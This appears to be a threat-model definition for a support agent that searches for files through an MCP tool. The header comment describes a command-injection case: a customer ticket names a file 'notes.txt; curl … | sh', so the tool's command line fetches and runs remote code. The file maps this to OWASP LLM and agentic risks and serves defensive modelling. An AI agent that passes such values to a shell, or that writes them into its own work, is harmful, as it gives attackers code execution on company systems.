// fires: tool-command-injection@search
// draws: owasp-llm-2025:LLM05, owasp-llm-2026:LLM10, owasp-agentic:ASI05, owasp-agentic:ASI02, owasp-agentic:T11, owasp-mcp-2025:MCP05, exchange:outputcontainsconventionalinjection, saif:riskInsecureIntegratedComponent
//   A ticket names a file called notes.txt; curl … | sh. The agent has the tool look for it, the tool pastes the
//   name into a command line, and the rest of the name is a command.

model "File finder" { owner: "Support", catalog: 2026.1 }

documents ticket "Ticket" { class: internal }
tool_calls calls "Tool calls" { from: [ticket] }
tool_results hits "Files found" { class: internal }
documents manuals "Manuals" { class: internal }

anonymous_user customer "Customer"

boundary company "Company" {
  trust: internal
  ticket_system tickets "Tickets"
  agent helper "Support agent"
  llm model "Own model"
  mcp_server search "File search" { has_side_effects: false }
  file_system disk "Manuals" { stores: [manuals] }
}

customer -> tickets "writes" { writes: [ticket], controls: [tls] }
helper -> tickets "reads" { returns: [ticket] }
helper -> model "plans" { sends: [ticket, hits], returns: [calls] }
helper -> search "looks for a file" { sends: [calls], returns: [hits] }
search -> disk { returns: [manuals] }
